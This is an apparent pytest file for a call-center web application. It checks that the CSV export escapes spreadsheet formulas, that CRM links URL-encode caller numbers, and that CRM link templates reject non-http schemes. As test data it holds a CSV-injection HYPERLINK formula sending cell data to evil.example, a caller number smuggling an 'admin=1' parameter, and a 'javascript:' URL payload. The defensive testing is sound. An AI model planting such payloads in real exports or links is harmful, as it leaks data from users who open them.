"""What the pages hand to other programs: the QA CSV export and the CRM link."""

from __future__ import annotations

import csv
import io
import json
import urllib.parse

import pytest
from sqlalchemy.orm import Session

from callcenter.config import Queue
from callcenter.db.models import Call

from .conftest import Site
from .test_web_security import sign_in

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Call back")'


async def test_qa_export_neutralises_formulas_in_caller_numbers(site: Site) -> None:
    with Session(site.users.engine) as session:
        call = session.get(Call, "c" * 32)
        assert call is not None
        call.caller_number = FORMULA
        session.commit()
    await sign_in(site.client, "quinn")
    export = await site.client.get("/qa/export.csv")
    assert export.status == 200
    rows = {row["call_id"]: row for row in csv.DictReader(io.StringIO(await export.text()))}
    assert rows["c" * 32]["caller_number"] == "'" + FORMULA
    assert rows["d" * 32]["caller_number"] == "'+15550001"  # '+' starts a formula too


async def test_crm_link_url_encodes_the_caller_number(site: Site) -> None:
    caller = "1234&admin=1#frag ment"
    site.live.calls["alice"] = {
        "call_id": "e" * 32,
        "state": "ringing",
        "queue_id": "sales",
        "caller_number": caller,
    }
    await sign_in(site.client, "alice")
    async with site.client.get("/agent/events") as stream:
        line = b""
        while not line.startswith(b"data: "):
            line = await stream.content.readline()
    payload = json.loads(line.decode().removeprefix("data: "))
    url = payload["call"]["crm_url"]
    parts = urllib.parse.urlsplit(url)
    assert parts.fragment == ""
    assert urllib.parse.parse_qs(parts.query) == {"phone": [caller]}
    page = await site.client.get("/agent")
    assert "phone=1234%26admin%3D1%23frag%20ment" in await page.text()


def test_crm_link_must_be_an_http_url() -> None:
    assert Queue(name="Sales", crm_link="https://crm/x?p={caller}").crm_link
    with pytest.raises(ValueError, match="http"):
        Queue(name="Sales", crm_link="javascript:alert(1)//{caller}")
